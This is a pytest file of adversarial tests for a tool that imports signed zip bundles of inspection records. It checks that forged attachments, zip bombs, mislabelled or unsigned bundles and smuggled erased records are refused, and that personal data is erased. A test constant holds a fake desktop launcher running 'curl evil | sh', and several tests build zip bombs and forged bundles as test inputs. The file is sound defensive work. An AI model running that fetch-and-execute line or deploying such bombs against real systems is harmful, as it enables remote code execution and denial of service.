"""Adversarial tests: attachments in bundles, bounded work, personal data at rest, the small ones.

Every refusal leaves the database byte-for-byte as it was.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import time
import uuid
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from click.testing import CliRunner
from nacl.public import PrivateKey
from nacl.signing import SigningKey

from inspect_tui.domain.models import Occupant
from inspect_tui.store import delete, get, open_db, save
from inspect_tui.store.blobs import MAX_ATTACHMENT_BYTES
from inspect_tui.store.bundles import snapshot_names
from inspect_tui.sync import BundleError, limits, zipguard
from inspect_tui.sync.export import export_bundle
from inspect_tui.sync.keys import set_central_key
from inspect_tui.sync.layout import blob_member, member_limit
from inspect_tui.sync.verify import verify_bundle
from tests.helpers.bundles import (
    BSNS,
    EMAIL,
    PHONE,
    Device,
    edit_line,
    file_hash,
    full_dump,
    make_device,
    members,
    populate,
    rebag,
    run,
    settle,
)
from tests.helpers.bundles import trusting_import as import_bundles

DESKTOP = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n"


@dataclass
class Lead:
    """A team lead's database that imported a source's full bundle; the bundle to forge from."""

    db_path: Path
    good: Path
    source_key: SigningKey
    folder: Path
    before_file: str = ""
    before_rows: str = ""

    def freeze(self) -> None:
        settle(self.db_path)
        db = open_db(self.db_path)
        self.before_rows = full_dump(db)
        db.conn.close()
        settle(self.db_path)
        self.before_file = file_hash(self.db_path)

    def write(self, name: str, data: bytes) -> Path:
        path = self.folder / name
        path.write_bytes(data)
        return path

    def forge(self, **kwargs: object) -> bytes:
        info = {"Bundle-Id": str(uuid.uuid4()), **kwargs.pop("info", {})}  # type: ignore[dict-item]
        kwargs.setdefault("rehash", True)  # ids that verify, so the checks under test are reached
        return rebag(self.good, self.source_key, info=info, **kwargs)  # type: ignore[arg-type]

    def unchanged(self) -> None:
        assert file_hash(self.db_path) == self.before_file, "the database file changed"
        db = open_db(self.db_path)
        try:
            assert full_dump(db) == self.before_rows, "a row changed"
        finally:
            db.conn.close()


@pytest.fixture
def lead(tmp_path: Path) -> Iterator[Lead]:
    source = make_device(tmp_path / "source.db")
    populate(source.db)
    result = export_bundle(source.db, tmp_path / "good.zip", source.key, everything=True)
    assert result is not None
    device = make_device(tmp_path / "lead.db")
    import_bundles(device.db, [result.path])
    device.db.conn.close()
    source.db.conn.close()
    made = Lead(tmp_path / "lead.db", result.path, source.key, tmp_path)
    made.freeze()
    yield made


def refused(cli: CliRunner, lead: Lead, bundle: Path, expected: str) -> str:
    code, output = run(cli, "--db", str(lead.db_path), "import", "--trust-new", "--trust-role", "lead", str(bundle))
    assert code == 1, output
    lines = output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), output
    assert expected in lines[0], lines[0]
    lead.unchanged()
    return lines[0]


def _swap_photo(data: dict[str, bytes], new: bytes, media_type: str | None = None) -> dict[str, bytes]:
    """The attachment's file replaced by new (named and sized to match), its record pointing at it."""
    import hashlib

    old = next(name for name in data if name.startswith("data/blobs/"))
    del data[old]
    sha = hashlib.sha256(new).hexdigest()
    data[blob_member(sha)] = new

    def change(envelope: dict[str, object]) -> None:
        record = envelope["record"]
        assert isinstance(record, dict)
        record.update(sha256=sha, size=len(new))
        if media_type is not None:
            record["media_type"] = media_type

    data["data/attachments.jsonl"] = edit_line(data["data/attachments.jsonl"], 1, change)
    return data


# -- 6. attachments ---------------------------------------------------------------------------------


def test_a_bundle_carrying_a_desktop_file_as_a_photo_is_refused(cli: CliRunner, lead: Lead) -> None:
    bundle = lead.write("desktop.zip", lead.forge(payload=lambda d: _swap_photo(d, DESKTOP)))
    line = refused(cli, lead, bundle, "data/attachments.jsonl line 1: attachment ")
    assert "its file is not a JPEG, PNG, WebP or HEIC photo" in line
    with pytest.raises(BundleError, match="is not a JPEG, PNG, WebP or HEIC photo"):
        verify_bundle(bundle)


def test_a_bundle_naming_a_program_type_is_refused(cli: CliRunner, lead: Lead) -> None:
    def change(data: dict[str, bytes]) -> dict[str, bytes]:
        data["data/attachments.jsonl"] = edit_line(
            data["data/attachments.jsonl"], 1, lambda e: e["record"].update(media_type="application/x-desktop")
        )
        return data

    bundle = lead.write("type.zip", lead.forge(payload=change))
    refused(cli, lead, bundle, "has media type 'application/x-desktop'; only JPEG, PNG, WebP or HEIC photos")


# -- 7. bounded work --------------------------------------------------------------------------------


def test_the_signature_is_checked_before_a_byte_of_the_payload_is_hashed(
    lead: Lead, monkeypatch: pytest.MonkeyPatch
) -> None:
    parts = members(lead.good)
    parts["signature.ed25519"] = b"A" * 86 + b"==\n"
    payload = os.urandom(3_800_000)
    parts[blob_member("ab" * 32)] = payload
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        for name, body in parts.items():
            zf.writestr(name, body)
    bundle = lead.write("unsigned.zip", out.getvalue())
    streamed: list[str] = []
    real = zipguard.GuardedZip.stream

    def spy(self: zipguard.GuardedZip, name: str, *, count_total: bool) -> Iterator[bytes]:
        streamed.append(name)
        return real(self, name, count_total=count_total)

    monkeypatch.setattr(zipguard.GuardedZip, "stream", spy)
    with pytest.raises(BundleError, match="the signature does not verify"):
        verify_bundle(bundle)
    assert not [name for name in streamed if name.startswith("data/")], streamed


def test_an_unsigned_big_file_is_refused_fast(lead: Lead) -> None:
    """A 5 MB file inflating to 720 MB (147 times: under the ratio limit) with a broken signature.

    Inflating and hashing the payload first took about 4 s here; checking the signature first
    takes milliseconds. The bound is generous and still fails the old order.
    """
    parts = members(lead.good)
    parts["signature.ed25519"] = b"A" * 86 + b"==\n"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        big = ("data/answers.jsonl", "data/findings.jsonl")  # two: each stays under the member limit
        for name, body in parts.items():
            if name not in big:
                zf.writestr(name, body)
        for name in big:
            with zf.open(name, "w") as member:
                for _ in range(45_000 // 16):
                    member.write(b"".join(os.urandom(16) + bytes(8000) for _ in range(16)))
    data = out.getvalue()
    assert len(data) < 6_000_000
    bundle = lead.write("unsigned-big.zip", data)
    started = time.perf_counter()
    with pytest.raises(BundleError, match="the signature does not verify"):
        verify_bundle(bundle)
    assert time.perf_counter() - started < 1.0


def test_many_small_blobs_cannot_escape_the_compression_limit(cli: CliRunner, lead: Lead) -> None:
    """40 blobs of 900 KiB of zeros: each under the 1 MiB floor of the per-member ratio, 36 MB together."""
    import hashlib

    def bomb(data: dict[str, bytes]) -> dict[str, bytes]:
        for n in range(40):
            body = bytes(900 * 1024 - n)
            data[blob_member(hashlib.sha256(body).hexdigest())] = body
        return data

    parts = members(lead.good)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in bomb({k: v for k, v in parts.items()}).items():
            zf.writestr(name, body)
    bundle = lead.write("small-blobs.zip", out.getvalue())
    assert bundle.stat().st_size < 1_000_000
    line = refused(cli, lead, bundle, "the attachment files expand")
    assert "a zip bomb of small files?" in line


def test_many_small_record_members_cannot_escape_the_compression_limit(cli: CliRunner, lead: Lead) -> None:
    parts = members(lead.good)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():
            zf.writestr(name, bytes(1000 * 1024) if name.endswith(".jsonl") else body)
    bundle = lead.write("small-members.zip", out.getvalue())
    refused(cli, lead, bundle, "the members expand")


def test_the_total_of_attachment_bytes_is_limited(cli: CliRunner, lead: Lead, monkeypatch: pytest.MonkeyPatch) -> None:
    photo = next(v for k, v in members(lead.good).items() if k.startswith("data/blobs/"))
    monkeypatch.setattr(limits, "MAX_TOTAL_BLOB_BYTES", len(photo) - 1)
    refused(cli, lead, lead.good, "the attachment files declare")


def test_verify_applies_the_stores_attachment_limit(lead: Lead) -> None:
    assert member_limit(blob_member("ab" * 32)) == MAX_ATTACHMENT_BYTES
    parts = members(lead.good)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        for name, body in parts.items():
            zf.writestr(name, body)
        zf.writestr(blob_member("cd" * 32), bytes(MAX_ATTACHMENT_BYTES + 1))
    bundle = lead.write("big-blob.zip", out.getvalue())
    with pytest.raises(BundleError, match=f"declares {MAX_ATTACHMENT_BYTES + 1:,} bytes; at most"):
        verify_bundle(bundle)


# -- 8. personal data at rest -----------------------------------------------------------------------


@pytest.fixture
def umask_zero() -> Iterator[None]:
    """The loosest umask: a file's mode then shows exactly what it was created with."""
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_exported_bundles_are_owner_only(tmp_path: Path, umask_zero: None) -> None:
    device = make_device(tmp_path / "a.db")
    populate(device.db)
    result = export_bundle(device.db, tmp_path, device.key, everything=True)
    assert result is not None and _mode(result.path) == 0o600
    device.db.conn.close()


def _edit_and_export(device: Device, folder: Path, round_: int) -> Path:
    occupant = get(device.db, Occupant, device.ids["jan"])
    assert occupant is not None
    save(device.db, occupant.model_copy(update={"employer": f"Teler {round_}"}))
    result = export_bundle(device.db, folder / f"b{round_}.zip", device.key)
    assert result is not None
    return result.path


def test_the_last_three_snapshots_are_kept_owner_only(cli: CliRunner, tmp_path: Path, umask_zero: None) -> None:
    source = make_device(tmp_path / "source.db")
    source.ids = populate(source.db)
    target = make_device(tmp_path / "target.db")
    target.db.conn.close()
    bundles = [_edit_and_export(source, tmp_path, n) for n in range(5)]
    snapshot = Path(f"{tmp_path / 'target.db'}.pre-import.sqlite")
    names = snapshot_names(snapshot, 5)
    for number, bundle in enumerate(bundles):
        code, output = run(
            cli, "--db", str(tmp_path / "target.db"), "import", "--trust-new", "--trust-role", "lead", str(bundle)
        )
        assert code == 0, output
        assert [n.exists() for n in names[:3]] == [True] * min(number + 1, 3) + [False] * (2 - min(number, 2))
    assert not names[3].exists() and not names[4].exists()
    assert all(_mode(n) == 0o600 for n in names[:3])
    # the newest snapshot is the database as it was before the last import
    conn = sqlite3.connect(snapshot)
    assert conn.execute("SELECT COUNT(*) FROM bundles").fetchone()[0] == 4
    conn.close()
    more = _edit_and_export(source, tmp_path, 9)
    code, output = run(
        cli,
        "--db",
        str(tmp_path / "target.db"),
        "import",
        "--trust-new",
        "--trust-role",
        "lead",
        "--keep-snapshots",
        "1",
        str(more),
    )
    assert code == 0, output
    assert snapshot.exists() and not names[1].exists() and not names[2].exists()
    source.db.conn.close()


def test_a_refused_import_pushes_no_earlier_snapshot_out(cli: CliRunner, tmp_path: Path) -> None:
    """The copies from before the real imports stay when later imports are refused (nothing changed):
    three refusals used to rotate out the copy from before the last import that changed anything."""
    source = make_device(tmp_path / "source.db")
    source.ids = populate(source.db)
    target = make_device(tmp_path / "target.db")
    target.db.conn.close()
    db = str(tmp_path / "target.db")
    trusting = ["--trust-new", "--trust-role", "lead"]
    for round_ in range(2):
        code, output = run(cli, "--db", db, "import", *trusting, str(_edit_and_export(source, tmp_path, round_)))
        assert code == 0, output
    names = snapshot_names(Path(f"{db}.pre-import.sqlite"), 3)
    before = [n.read_bytes() if n.exists() else None for n in names]
    assert before[0] is not None and before[1] is not None and before[2] is None
    stranger = make_device(tmp_path / "stranger.db")
    populate(stranger.db)
    foreign = export_bundle(stranger.db, tmp_path / "foreign.zip", stranger.key, everything=True)
    assert foreign is not None
    tampered = tmp_path / "tampered.zip"
    tampered.write_bytes(_edit_and_export(source, tmp_path, 7).read_bytes()[:-40])
    for refused in (foreign.path, foreign.path, tampered, foreign.path):  # a new signer, a cut bundle
        code, output = run(cli, "--db", db, "import", str(refused))
        assert code == 1, output
    assert [n.read_bytes() if n.exists() else None for n in names] == before
    assert not list(tmp_path.glob("target.db.pre-import.sqlite.*.part"))
    source.db.conn.close()
    stranger.db.conn.close()


def test_a_copy_an_import_left_behind_is_removed_by_the_next_import(cli: CliRunner, tmp_path: Path) -> None:
    from inspect_tui.store.bundles import _hold

    source = make_device(tmp_path / "source.db")
    source.ids = populate(source.db)
    target = make_device(tmp_path / "target.db")
    target.db.conn.close()
    db = str(tmp_path / "target.db")
    old, recent = (tmp_path / f"target.db.pre-import.sqlite.{n}.part" for n in ("0a1b2c3d", "4e5f6a7b"))
    for left in (old, recent):
        left.write_bytes(b"personal data")
    held = _hold(recent)  # another import's, under way
    bundle = str(_edit_and_export(source, tmp_path, 0))
    try:
        code, output = run(cli, "--db", db, "import", "--trust-new", "--trust-role", "lead", bundle)
    finally:
        if held is not None:
            os.close(held)
    assert code == 0, output
    assert not old.exists() and recent.exists()  # a killed import's copy goes at once; a running one's stays
    source.db.conn.close()


def test_an_import_stands_when_its_snapshot_cannot_be_kept(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from inspect_tui.store.bundles import SnapshotCopy

    def refuse(copy: SnapshotCopy) -> None:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(SnapshotCopy, "keep", refuse)
    source = make_device(tmp_path / "source.db")
    source.ids = populate(source.db)
    target = make_device(tmp_path / "target.db")
    target.db.conn.close()
    db = str(tmp_path / "target.db")
    bundle = str(_edit_and_export(source, tmp_path, 0))
    code, output = run(cli, "--db", db, "import", "--trust-new", "--trust-role", "lead", bundle)
    assert code == 0, output
    assert "could not be kept" in output and "Permission denied" in output, output
    assert not Path(f"{db}.pre-import.sqlite").exists()
    assert not list(tmp_path.glob("target.db.pre-import.sqlite.*.part"))  # discarded, not left
    source.db.conn.close()


def _bsn_anywhere(db_path: Path, bsn: str) -> bool:
    settle(db_path)
    data = db_path.read_bytes()
    wal = db_path.with_name(db_path.name + "-wal")
    return bsn.encode() in data or (wal.exists() and bsn.encode() in wal.read_bytes())


def test_removing_an_occupant_erases_their_personal_data_here_and_in_the_next_bundle(
    cli: CliRunner, tmp_path: Path
) -> None:
    source = make_device(tmp_path / "source.db")
    source.ids = populate(source.db)
    target = make_device(tmp_path / "target.db")
    first = export_bundle(source.db, tmp_path / "first.zip", source.key)
    assert first is not None
    import_bundles(target.db, [first.path])
    stored = target.db.execute(
        "SELECT COUNT(*) FROM changes WHERE record_id = ? AND data LIKE ?", [source.ids["jan"], f"%{BSNS[0]}%"]
    ).fetchone()[0]
    assert stored == 1, "the target holds the BSN before the removal"
    delete(source.db, Occupant, source.ids["jan"])
    rows = source.db.execute("SELECT data, deleted FROM changes WHERE record_id = ?", [source.ids["jan"]]).fetchall()
    assert len(rows) == 2 and all(BSNS[0] not in r[0] and "Kowalski" not in r[0] and PHONE not in r[0] for r in rows)
    assert all(json.loads(r[0])["name"] == "(erased)" for r in rows)
    second = export_bundle(source.db, tmp_path / "second.zip", source.key)
    assert second is not None and second.counts["occupants"] == 1
    text = members(second.path)["data/occupants.jsonl"].decode()
    assert BSNS[0] not in text and EMAIL not in text and '"deleted":true' in text
    source.db.conn.close()
    assert not _bsn_anywhere(tmp_path / "source.db", BSNS[0])
    code, output = run(
        cli, "--db", str(tmp_path / "target.db"), "import", "--trust-new", "--trust-role", "lead", str(second.path)
    )
    assert code == 0, output
    assert "personal data of removed occupants was erased" in output
    assert target.db.execute("SELECT COUNT(*) FROM occupants WHERE id = ?", [source.ids["jan"]]).fetchone()[0] == 0
    target.db.conn.close()
    assert not _bsn_anywhere(tmp_path / "target.db", BSNS[0])


def test_an_edit_that_arrives_after_the_erasure_is_erased_too(tmp_path: Path) -> None:
    source = make_device(tmp_path / "source.db")
    source.ids = populate(source.db)
    colleague = make_device(tmp_path / "colleague.db")
    first = export_bundle(source.db, tmp_path / "first.zip", source.key)
    assert first is not None
    import_bundles(colleague.db, [first.path])
    jan = get(colleague.db, Occupant, source.ids["jan"])
    assert jan is not None
    save(colleague.db, jan.model_copy(update={"phone": "+31 6 9999 0000"}))  # not knowing of the removal
    late = export_bundle(colleague.db, tmp_path / "late.zip", colleague.key)
    assert late is not None
    delete(source.db, Occupant, source.ids["jan"])
    (receipt,) = import_bundles(source.db, [late.path])
    rows = source.db.execute("SELECT data FROM changes WHERE record_id = ?", [source.ids["jan"]]).fetchall()
    assert len(rows) == 3 and not any(BSNS[0] in r[0] or "9999" in r[0] or "Kowalski" in r[0] for r in rows)
    assert any("erased" in note for note in receipt.notes)
    source.db.conn.close()
    colleague.db.conn.close()


def test_a_bundle_labelled_sealed_with_plaintext_bsns_is_refused(cli: CliRunner, lead: Lead) -> None:
    bundle = lead.write("mislabelled.zip", lead.forge(info={"Personal-Data": "sealed"}))
    line = refused(cli, lead, bundle, "bag-info.txt says Personal-Data: sealed, but occupant ")
    assert "bsn" in line and "unencrypted" in line
    code, output = run(cli, "verify", str(bundle))
    assert code == 1 and "Personal-Data: sealed" in output and "valid" not in output


def test_plaintext_personal_data_arriving_where_a_central_key_is_set_is_warned_about(
    cli: CliRunner, tmp_path: Path, full_bundle: Path
) -> None:
    db = open_db(tmp_path / "central.db", create=True)
    with db.atomic():
        set_central_key(db, bytes(PrivateKey.generate().public_key).hex())
    db.conn.close()
    code, output = run(
        cli, "--db", str(tmp_path / "central.db"), "import", "--trust-new", "--trust-role", "lead", str(full_bundle)
    )
    assert code == 0, output
    assert "WARNING: " in output and "UNENCRYPTED, although this database has a central key" in output
    code, output = run(cli, "--db", str(tmp_path / "plain.db"), "init")
    code, output = run(
        cli, "--db", str(tmp_path / "plain.db"), "import", "--trust-new", "--trust-role", "lead", str(full_bundle)
    )
    assert code == 0 and "WARNING" not in output, output


# -- 9. the small ones ------------------------------------------------------------------------------

_CLI = [sys.executable, "-c", "from inspect_tui.cli import main; main()"]
_ENV = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}

_HOLDER = """
import sqlite3, sys, time
conn = sqlite3.connect(sys.argv[1], isolation_level=None)
conn.execute("PRAGMA busy_timeout = 5000")
conn.execute("BEGIN IMMEDIATE")
conn.execute("INSERT INTO meta(key, value) VALUES ('held', '1')")
print("locked", flush=True)
time.sleep(float(sys.argv[2]))
conn.execute("COMMIT")
"""


def test_a_second_writer_waits_for_the_first_instead_of_failing(tmp_path: Path, full_bundle: Path) -> None:
    db_path = tmp_path / "lead.db"
    make_device(db_path).db.conn.close()
    holder = subprocess.Popen(
        [sys.executable, "-c", _HOLDER, str(db_path), "2.5"], stdout=subprocess.PIPE, text=True, env=_ENV
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "locked"
        done = subprocess.run(
            [*_CLI, "--db", str(db_path), "import", "--trust-new", "--trust-role", "lead", str(full_bundle)],
            capture_output=True,
            text=True,
            env=_ENV,
            timeout=60,
        )
    finally:
        holder.wait(timeout=30)
    assert holder.returncode == 0
    assert done.returncode == 0, done.stdout + done.stderr
    db = open_db(db_path)
    assert db.execute("SELECT COUNT(*) FROM bundles").fetchone()[0] == 1
    assert db.execute("SELECT value FROM meta WHERE key = 'held'").fetchone()[0] == "1"
    db.conn.close()


def test_two_imports_of_the_same_bundle_at_once_both_succeed(tmp_path: Path, full_bundle: Path) -> None:
    db_path = tmp_path / "lead.db"
    make_device(db_path).db.conn.close()
    command = [*_CLI, "--db", str(db_path), "import", "--trust-new", "--trust-role", "lead", str(full_bundle)]
    first = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=_ENV)
    second = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=_ENV)
    results = [p.communicate(timeout=60) for p in (first, second)]
    assert first.returncode == 0 and second.returncode == 0, results
    db = open_db(db_path)
    assert db.execute("SELECT COUNT(*) FROM bundles").fetchone()[0] == 1
    db.conn.close()


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_verify_refuses_a_pipe_or_device_at_once(tmp_path: Path, kind: str) -> None:
    if kind == "fifo":
        target = tmp_path / "bundle.zip"
        os.mkfifo(target)
    else:
        target = Path("/dev/zero")
    done = subprocess.run([*_CLI, "verify", str(target)], capture_output=True, text=True, env=_ENV, timeout=30)
    assert done.returncode == 1
    lines = done.stderr.strip().splitlines() + done.stdout.strip().splitlines()
    assert len(lines) == 1 and "not a regular file (a pipe, device or folder)" in lines[0], lines


def test_trusted_keys_from_dev_zero_is_one_clear_line(tmp_path: Path, full_bundle: Path) -> None:
    db_path = tmp_path / "lead.db"
    make_device(db_path).db.conn.close()
    done = subprocess.run(
        [
            *_CLI,
            "--db",
            str(db_path),
            "import",
            "--trust-new",
            "--trust-role",
            "lead",
            "--trusted-keys",
            "/dev/zero",
            str(full_bundle),
        ],
        capture_output=True,
        text=True,
        env=_ENV,
        timeout=30,
    )
    assert done.returncode == 1
    lines = (done.stdout + done.stderr).strip().splitlines()
    assert lines == [
        "Error: the trusted keys file /dev/zero is not a regular file; give a text file with one key per line"
    ]


def test_a_closed_stdout_after_a_committed_import_is_not_an_error(tmp_path: Path, full_bundle: Path) -> None:
    db_path = tmp_path / "lead.db"
    make_device(db_path).db.conn.close()
    done = subprocess.run(
        [
            "bash",
            "-c",
            'set -o pipefail; "$@" | head -c 0',
            "sh",
            *_CLI,
            "--db",
            str(db_path),
            "import",
            "--trust-new",
            "--trust-role",
            "lead",
            str(full_bundle),
        ],
        capture_output=True,
        text=True,
        env=_ENV,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and "Error" not in done.stderr
    db = open_db(db_path)
    assert db.execute("SELECT COUNT(*) FROM bundles").fetchone()[0] == 1
    db.conn.close()


def test_snapshot_names_number_older_copies(tmp_path: Path) -> None:
    names = snapshot_names(tmp_path / "x.db.pre-import.sqlite", 3)
    assert [n.name for n in names] == ["x.db.pre-import.sqlite", "x.db.pre-import.1.sqlite", "x.db.pre-import.2.sqlite"]
    assert shutil.which("bash")


def test_an_erasure_travels_under_verified_ids_to_devices_that_never_saw_the_occupant(tmp_path: Path) -> None:
    """Erased revisions no longer hash to their ids: only the deletion travels, and a receiver that
    never saw its parents accepts it (ids verified, vouched by the origin), also when relayed."""
    source = make_device(tmp_path / "source.db", device_id="source-1")
    ids = populate(source.db)
    delete(source.db, Occupant, ids["jan"])
    erased_rev = source.db.execute(
        "SELECT rev FROM changes WHERE record_id = ? AND deleted = 0", [ids["jan"]]
    ).fetchone()[0]
    everything = export_bundle(source.db, tmp_path / "all.zip", source.key, everything=True)
    assert everything is not None
    text = members(everything.path)["data/occupants.jsonl"].decode()
    assert f'"rev":"{erased_rev}"' not in text, "the erased version does not travel"
    newcomer = make_device(tmp_path / "newcomer.db", device_id="newcomer-2")
    import_bundles(newcomer.db, [everything.path])
    rows = newcomer.db.execute("SELECT base_rev, deleted FROM changes WHERE record_id = ?", [ids["jan"]]).fetchall()
    assert rows == [(erased_rev, 1)], "the deletion is stored although its parent never arrived"
    assert newcomer.db.execute("SELECT COUNT(*) FROM occupants WHERE id = ?", [ids["jan"]]).fetchone()[0] == 0
    # relayed on: the newcomer's bundle carries the source's segment for the deletion
    relayed = export_bundle(newcomer.db, tmp_path / "relayed.zip", newcomer.key, everything=True)
    assert relayed is not None
    third = make_device(tmp_path / "third.db", device_id="third-3")
    import_bundles(third.db, [relayed.path])
    assert third.db.execute("SELECT deleted FROM changes WHERE record_id = ?", [ids["jan"]]).fetchall() == [(1,)]
    # a bundle that smuggles the blanked version back in is refused: its id does not verify
    blanked = source.db.execute("SELECT data FROM changes WHERE rev = ?", [erased_rev]).fetchone()[0]
    assert BSNS[0] not in blanked
    smuggled = _smuggle(everything.path, source, erased_rev, blanked, tmp_path)
    with pytest.raises(BundleError, match="not the hash of its content"):
        import_bundles(make_device(tmp_path / "fourth.db").db, [smuggled])


def _smuggle(bundle: Path, source: Device, rev: str, data: str, folder: Path) -> Path:
    """Write smuggled.zip: the bundle with the erased (blanked) version of an occupant added back."""
    gen = int(rev.split("-")[0])
    base = source.db.execute("SELECT base_rev FROM changes WHERE rev = ?", [rev]).fetchone()[0]

    def add(payload: dict[str, bytes]) -> dict[str, bytes]:
        line = json.dumps(
            {
                "rev": rev,
                "gen": gen,
                "base_rev": base,
                "merged": [],
                "ancestors": [],
                "origin": "source-1",
                "deleted": False,
                "record": json.loads(data),
            },
            separators=(",", ":"),
        )
        payload["data/occupants.jsonl"] = (line + "\n").encode() + payload["data/occupants.jsonl"]
        return payload

    count = len(members(bundle)["data/occupants.jsonl"].splitlines()) + 1
    smuggled = rebag(bundle, source.key, payload=add, info={"Count-Occupants": str(count)})
    (folder / "smuggled.zip").write_bytes(smuggled)
    return folder / "smuggled.zip"
